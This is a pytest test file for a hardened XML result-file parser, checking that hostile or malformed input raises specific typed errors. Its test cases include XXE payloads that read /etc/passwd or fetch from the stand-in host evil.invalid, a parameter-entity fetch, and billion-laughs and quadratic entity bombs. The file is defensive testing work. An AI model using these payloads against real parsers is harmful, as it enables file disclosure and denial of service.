"""Hostile and broken XML → a specific typed error, fast; arbitrary bytes never crash the parser."""

from __future__ import annotations

import contextlib
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from reader.terminal import (
    DtdForbiddenError,
    EncodingMismatchError,
    EntityExpansionError,
    ExternalEntityError,
    FileNotReady,
    FileTooLargeError,
    FileVanished,
    MalformedXmlError,
    NotXmlMsgError,
    ResultSource,
    TerminalParseError,
    TruncatedXmlError,
    UnsupportedEncodingError,
    parse_result,
    read_result_file,
)
from reader.terminal.files import read_shared
from tests.reader.terminal.test_parser import full

BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    b"<XmlMsg>&lol3;</XmlMsg>"
)
QUADRATIC = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "'
    + b"A" * 50_000
    + b'">]><XmlMsg>'
    + b"&a;" * 50_000
    + b"</XmlMsg>"
)

CASES: list[tuple[str, bytes, type[TerminalParseError]]] = [
    (
        "xxe file",
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><XmlMsg>&e;</XmlMsg>',
        ExternalEntityError,
    ),
    (
        "xxe url",
        b'<!DOCTYPE x [<!ENTITY e PUBLIC "-//x" "http://evil.invalid/">]><XmlMsg>&e;</XmlMsg>',
        ExternalEntityError,
    ),
    (
        "parameter entity",
        b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.invalid/p">%p;]><XmlMsg/>',
        ExternalEntityError,
    ),
    ("billion laughs", BOMB, EntityExpansionError),
    ("quadratic blowup", QUADRATIC, EntityExpansionError),
    (
        "external dtd",
        b'<!DOCTYPE XmlMsg SYSTEM "http://evil.invalid/x.dtd"><XmlMsg/>',
        DtdForbiddenError,
    ),
    ("internal dtd", b"<!DOCTYPE XmlMsg [<!ELEMENT XmlMsg ANY>]><XmlMsg/>", DtdForbiddenError),
    ("truncated", full()[:-30], TruncatedXmlError),
    ("truncated mid-character", full()[: full().index("架空".encode()) + 1], TruncatedXmlError),
    ("empty", b"", TruncatedXmlError),
    ("blank", b"  \r\n", TruncatedXmlError),
    (
        "declared sjis, really utf-8",
        full().replace(b'"UTF-8"', b'"Shift_JIS"', 1),
        EncodingMismatchError,
    ),
    (
        "declared utf-8, really sjis",
        full("cp932").replace(b'"Shift_JIS"', b'"UTF-8"', 1),
        EncodingMismatchError,
    ),
    (
        "no declaration, sjis bytes, cci 0",
        full("cp932").split(b"?>", 1)[1].replace(b">1</Char", b">0</Char"),
        EncodingMismatchError,
    ),
    (
        "unknown encoding",
        b'<?xml version="1.0" encoding="KOI8-R"?><XmlMsg/>',
        UnsupportedEncodingError,
    ),
    ("not xml", b"%PDF-1.7 binary", MalformedXmlError),
    ("junk after root", full() + b"<More/>", MalformedXmlError),
    ("wrong root", b"<html/>", NotXmlMsgError),
]


@pytest.mark.parametrize(("name", "data", "error"), CASES, ids=[c[0] for c in CASES])
def test_specific_error(name: str, data: bytes, error: type[TerminalParseError]) -> None:
    started = time.perf_counter()
    with pytest.raises(error) as info:
        parse_result(data, source=ResultSource.FACE, file_name="f.xml")
    assert time.perf_counter() - started < 1.0
    assert info.value.file_name == "f.xml" and info.value.code


def test_sjis_without_declaration_is_read_when_cci_says_so() -> None:
    body = full("cp932").split(b"?>", 1)[1]
    r = parse_result(body, source=ResultSource.FACE)
    assert r.record is not None and r.record.name == "架空 太郎" and r.encoding == "cp932"


def test_bom_is_accepted() -> None:
    r = parse_result(b"\xef\xbb\xbf" + full(), source=ResultSource.FACE)
    assert r.record is not None


def test_size_limit_is_checked_before_reading(tmp_path: Path) -> None:
    big = tmp_path / "big.xml"
    with open(big, "wb") as fh:
        fh.truncate(50 * 1024 * 1024)
    seen: list[int] = []
    with pytest.raises(FileTooLargeError) as info:
        read_shared(big, 2 * 1024 * 1024, on_chunk=seen.append)
    assert seen == []  # refused on the handle's size: nothing was read
    assert info.value.size == 50 * 1024 * 1024
    with pytest.raises(FileTooLargeError):
        parse_result(b" " * 3_000_000, source=ResultSource.FACE)
    with pytest.raises(FileVanished):
        read_shared(tmp_path / "gone.xml", 1000)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=2000))
def test_arbitrary_bytes_only_typed_errors(data: bytes) -> None:
    with contextlib.suppress(TerminalParseError):
        parse_result(data, source=ResultSource.FACE)


@settings(max_examples=300, deadline=None)
@given(st.data())
def test_mutated_results_only_typed_errors(data: st.DataObject) -> None:
    """Corrupt a real result: cut it, flip bytes, splice in markup."""
    base = full(data.draw(st.sampled_from(["utf-8", "cp932"])))
    cut = data.draw(st.integers(0, len(base)))
    doc = bytearray(base[:cut] if data.draw(st.booleans()) else base)
    for _ in range(data.draw(st.integers(0, 5))):
        if doc:
            doc[data.draw(st.integers(0, len(doc) - 1))] = data.draw(st.integers(0, 255))
    if data.draw(st.booleans()):
        at = data.draw(st.integers(0, len(doc)))
        snippet = data.draw(
            st.sampled_from([b"<", b"&x;", b"<!DOCTYPE a>", b"]]>", b"<A>", b"\x00", "髙".encode()])
        )
        doc[at:at] = snippet
    try:
        result = parse_result(bytes(doc), source=ResultSource.QUERY)
    except TerminalParseError:
        return
    assert result.raw_xml == bytes(doc)


def test_file_still_being_written_is_not_ready_not_an_error(tmp_path: Path) -> None:
    partial = tmp_path / "OQSsiquc01res_face_x_20261123000000.xml"
    partial.write_bytes(full()[:200])
    with pytest.raises(FileNotReady):
        read_result_file(partial, source=ResultSource.FACE, settle_s=60)
    with pytest.raises(TruncatedXmlError):  # once it has settled, it is truncated
        read_result_file(partial, source=ResultSource.FACE, settle_s=0)
    hostile = tmp_path / "hostile.xml"
    hostile.write_bytes(CASES[0][1])
    with pytest.raises(ExternalEntityError):  # hostile content never waits
        read_result_file(hostile, source=ResultSource.FACE, settle_s=60)
    partial.write_bytes(full())
    assert read_result_file(partial, source=ResultSource.FACE).record is not None
